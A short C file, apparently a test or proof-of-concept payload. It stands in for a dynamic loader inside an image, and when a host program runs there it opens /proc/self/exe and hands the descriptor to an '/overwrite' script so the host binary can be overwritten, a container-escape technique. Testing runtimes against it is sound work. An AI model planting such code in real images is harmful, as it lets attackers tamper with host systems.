/* Stands in an image where the dynamic loader of a program of the host's is looked for. Whoever executes such a program
   in there runs this, with /proc/self/exe leading to the program: it keeps that open, and has a script write to it. */
#include "bare.h"

void _start(void)
{
    long fd = OPEN("/proc/self/exe", O_RDONLY, 0);
    char number[] = "0";
    char *arguments[] = {"sh", "/overwrite", number, 0}, *environment[] = {"PATH=/bin", 0};

    WRITE(1, "loaded\n");
    if (fd >= 0 && fd <= 9) {
        number[0] += fd;
        call(SYS_execve, (long)"/bin/sh", (long)arguments, (long)environment, 0);
    }
    call(SYS_exit_group, 70, 0, 0, 0);
    __builtin_unreachable();
}
